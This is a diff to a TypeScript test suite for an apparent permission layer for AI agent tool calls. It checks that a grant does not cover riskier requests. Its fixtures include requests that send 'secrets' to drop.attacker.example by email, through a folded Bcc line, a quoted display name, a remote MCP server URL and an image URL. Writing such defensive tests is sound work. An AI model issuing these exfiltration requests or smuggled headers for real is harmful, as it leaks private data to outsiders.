@@ -69,8 +69,14 @@ const mcpSql = ([tool, texts]: [string, string[]]): Shape => ({
   body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool, arguments: tool === 'run_sql' ? { params: { sql: texts.join('; '), projectId: 'p' } } : tool === 'run_sql_transaction' ? { params: { sqlStatements: texts, projectId: 'p' } } : { project_id: 'p', query: texts.join('; ') } } }),
 });
 // Tool calls that name where they act (a repository, a recipient) beside content that may vary.
-const placed = fc.tuple(fc.constantFrom('create_issue', 'send_email'), fc.record({ owner: fc.constantFrom('acme', 'attacker'), repo: fc.constantFrom('app', 'public'), to: fc.constantFrom('alice@corp.example', 'drop@attacker.example'), title: fc.constantFrom('x', 'y') }, { requiredKeys: [] }));
-const mcpPlaced = ([tool, args]: [string, Record<string, string>]): Shape => ({
+// Recipients are named in any case style (`recipient_email`, `chatId`) and inside lists of objects (`messages: [{to}]`).
+const recipient = fc.constantFrom('alice@corp.example', 'drop@attacker.example');
+const placed = fc.tuple(fc.constantFrom('create_issue', 'send_email'), fc.record({
+  owner: fc.constantFrom('acme', 'attacker'), repo: fc.constantFrom('app', 'public'), to: recipient, title: fc.constantFrom('x', 'y'),
+  recipient_email: recipient, chatId: fc.constantFrom('1001', '666'), messages: recipient.map((to) => [{ to, text: 'hi' }]),
+}, { requiredKeys: [] }));
+const placeKeys = ['owner', 'repo', 'to', 'recipient_email', 'chatId'] as const;
+const mcpPlaced = ([tool, args]: [string, Record<string, unknown>]): Shape => ({
   url: 'https://mcp.tools.example/mcp', type: 'application/json',
   body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool, arguments: args } }),
 });
@@ -161,9 +167,12 @@ function actions(d: RequestDescription): Set<string> {
   const out = new Set<string>();
   for (const c of d.mcp?.batch ?? (d.mcp ? [d.mcp] : [])) {
     out.add(`tool ${c.tool}`);
-    const args = c.arguments as { query?: string; params?: { sql?: string; sqlStatements?: string[] }; owner?: string; repo?: string; to?: string } | undefined;
-    // Where the call acts: its repository and recipient (or none).
-    if (c.tool === 'create_issue' || c.tool === 'send_email') for (const k of ['owner', 'repo', 'to'] as const) out.add(`tool ${c.tool} ${k}=${args?.[k] ?? '(none)'}`);
+    const args = c.arguments as { query?: string; params?: { sql?: string; sqlStatements?: string[] }; messages?: unknown } & Partial<Record<(typeof placeKeys)[number], string>> | undefined;
+    // Where the call acts: its repository and recipients (or none).
+    if (c.tool === 'create_issue' || c.tool === 'send_email') {
+      for (const k of placeKeys) out.add(`tool ${c.tool} ${k}=${args?.[k] ?? '(none)'}`);
+      out.add(`tool ${c.tool} messages=${JSON.stringify(args?.messages ?? null)}`);
+    }
     const texts = args?.params?.sqlStatements ?? [args?.query ?? args?.params?.sql].filter((x): x is string => x !== undefined);
     // SQL in the arguments is what the call does: its statements, or the text itself when it is not plain SQL.
     const plain = texts.length > 0 && texts.every((text) => text.split('; ').every((st) => /^(SELECT|INSERT|UPDATE|DELETE|DROP|CALL|SET)\b[^*]*$/.test(st)));
@@ -249,6 +258,9 @@ t.test('a grant never turns a riskier or different operation into an allow', asy
         [[mcpSql(['run_sql_transaction', ['INSERT INTO notes (b) VALUES (1)']]), mcpSql(['run_sql_transaction', ['INSERT INTO notes (b) VALUES (1)', 'DROP TABLE notes']])]],
         [[mcpPlaced(['create_issue', { owner: 'acme', repo: 'app', title: 'x' }]), mcpPlaced(['create_issue', { owner: 'attacker', repo: 'public', title: 'y' }])]],
         [[mcpPlaced(['send_email', { title: 'x' }]), mcpPlaced(['send_email', { to: 'drop@attacker.example', title: 'x' }])]],
+        [[mcpPlaced(['send_email', { recipient_email: 'alice@corp.example' }]), mcpPlaced(['send_email', { recipient_email: 'drop@attacker.example' }])]],
+        [[mcpPlaced(['send_email', { chatId: '1001' }]), mcpPlaced(['send_email', { chatId: '666' }])]],
+        [[mcpPlaced(['send_email', { messages: [{ to: 'alice@corp.example', text: 'hi' }] }]), mcpPlaced(['send_email', { messages: [{ to: 'drop@attacker.example', text: 'hi' }] }])]],
         [[rpc(['query', 'DescribeInstances']), rpc(['query', 'TerminateInstances'])]],
         [[rpc(['json', 'GetItem']), rpc(['json', 'DeleteTable'])]],
         [[rpc(['soap', 'GetAccount']), rpc(['soap', 'DeleteAccount'])]],
@@ -457,6 +469,61 @@ t.test('a grant covers the place it was approved for: another repository, channe
         req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: drop@attacker.example\r\n\r\nsecrets') })),
         // The approved recipient, and a blind copy folded onto a second line.
         req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: bob@corp.example\r\nBcc:\r\n drop@attacker.example\r\n\r\nsecrets') })),
+      ],
+    ],
+    [
+      // A file written on a feature branch; the default branch (what deploys) is elsewhere, as a push's refs are.
+      req('PUT', 'https://api.github.com/repos/acme/widgets/contents/src/a.ts', 'application/json', json({ message: 'm', content: 'YQ==', branch: 'feature-x' })),
+      req('PUT', 'https://api.github.com/repos/acme/widgets/contents/src/b.ts', 'application/json', json({ message: 'm', content: 'Yg==', branch: 'feature-x' })),
+      [
+        req('PUT', 'https://api.github.com/repos/acme/widgets/contents/src/a.ts', 'application/json', json({ message: 'm', content: 'YQ==' })),
+        req('PUT', 'https://api.github.com/repos/acme/widgets/contents/src/a.ts', 'application/json', json({ message: 'm', content: 'YQ==', branch: 'main' })),
+      ],
+    ],
+    [
+      // The GraphQL twin: createCommitOnBranch names its branch by name beside its repository.
+      req('POST', 'https://api.github.com/graphql', 'application/json', json({ query: 'mutation($i: CreateCommitOnBranchInput!) { createCommitOnBranch(input: $i) { commit { url } } }', variables: { i: { branch: { repositoryNameWithOwner: 'acme/widgets', branchName: 'feature-x' }, message: { headline: 'm' }, expectedHeadOid: 'a'.repeat(40), fileChanges: { additions: [{ path: 'a.md', contents: 'YQ==' }] } } } })),
+      req('POST', 'https://api.github.com/graphql', 'application/json', json({ query: 'mutation($i: CreateCommitOnBranchInput!) { createCommitOnBranch(input: $i) { commit { url } } }', variables: { i: { branch: { repositoryNameWithOwner: 'acme/widgets', branchName: 'feature-x' }, message: { headline: 'n' }, expectedHeadOid: 'b'.repeat(40), fileChanges: { additions: [{ path: 'b.md', contents: 'Yg==' }] } } } })),
+      [req('POST', 'https://api.github.com/graphql', 'application/json', json({ query: 'mutation($i: CreateCommitOnBranchInput!) { createCommitOnBranch(input: $i) { commit { url } } }', variables: { i: { branch: { repositoryNameWithOwner: 'acme/widgets', branchName: 'main' }, message: { headline: 'm' }, expectedHeadOid: 'a'.repeat(40), fileChanges: { additions: [{ path: 'a.md', contents: 'YQ==' }] } } } }))],
+    ],
+    [
+      // A fork into the user's own account; into another organization its members read the code.
+      req('POST', 'https://api.github.com/repos/acme/widgets/forks', 'application/json', json({ default_branch_only: true })),
+      req('POST', 'https://api.github.com/repos/acme/widgets/forks', 'application/json', json({})),
+      [req('POST', 'https://api.github.com/repos/acme/widgets/forks', 'application/json', json({ organization: 'outside-org' }))],
+    ],
+    [
+      // A branch created; a release tag (what a deploy workflow runs on) is another ref.
+      req('POST', 'https://api.github.com/repos/acme/widgets/git/refs', 'application/json', json({ ref: 'refs/heads/feature-x', sha: 'a'.repeat(40) })),
+      req('POST', 'https://api.github.com/repos/acme/widgets/git/refs', 'application/json', json({ ref: 'refs/heads/feature-x', sha: 'b'.repeat(40) })),
+      [req('POST', 'https://api.github.com/repos/acme/widgets/git/refs', 'application/json', json({ ref: 'refs/tags/v9.9.9', sha: 'a'.repeat(40) }))],
+    ],
+    [
+      // A model call that has the provider call a remote MCP server: the prompt (private data
+      // included) goes to that server, from outside Airlock. Another server is elsewhere.
+      req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'triage', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }] })),
+      req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'triage again', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }] })),
+      [
+        req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'secrets', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://drop.attacker.example/mcp' }] })),
+        req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: 'secrets', tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }, { type: 'mcp', server_label: 'u', server_url: 'https://drop.attacker.example/mcp' }] })),
+        // A link the provider fetches carries what its URL carries.
+        req('POST', 'https://api.openai.com/v1/responses', 'application/json', json({ model: 'gpt-4.1', input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://drop.attacker.example/i.png?d=secret' }] }], tools: [{ type: 'mcp', server_label: 't', server_url: 'https://mcp.acme.dev/mcp' }] })),
+      ],
+    ],
+    [
+      req('POST', 'https://api.anthropic.com/v1/messages', 'application/json', json({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'triage' }], mcp_servers: [{ type: 'url', name: 't', url: 'https://mcp.acme.dev/mcp' }] })),
+      req('POST', 'https://api.anthropic.com/v1/messages', 'application/json', json({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'again' }], mcp_servers: [{ type: 'url', name: 't', url: 'https://mcp.acme.dev/mcp' }] })),
+      [req('POST', 'https://api.anthropic.com/v1/messages', 'application/json', json({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'secrets' }], mcp_servers: [{ type: 'url', name: 't', url: 'https://drop.attacker.example/mcp' }] }))],
+    ],
+    [
+      // A quoted local part or a comment is not part of the address: `"bob"@corp.example` is bob's,
+      // `"eve"@corp.example` and `eve(x)@corp.example` someone else's at the same domain.
+      req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: "bob"@corp.example\r\n\r\ngreen') })),
+      req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: bob(build bot)@corp.example\r\n\r\nred') })),
+      [
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: "eve"@corp.example\r\n\r\nsecrets') })),
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: eve(x)@corp.example\r\n\r\nsecrets') })),
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: bob@corp.example, "x(" <drop@attacker.example>\r\n\r\nsecrets') })),
       ],
     ],
     [
